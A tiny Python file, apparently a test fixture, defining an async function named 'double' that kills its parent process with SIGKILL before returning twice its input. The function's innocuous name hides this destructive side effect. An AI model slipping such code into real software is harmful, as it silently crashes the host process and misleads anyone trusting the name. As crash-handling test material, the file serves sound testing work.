import os
import signal


async def double(x):
    os.kill(os.getppid(), signal.SIGKILL)
    return 2 * x
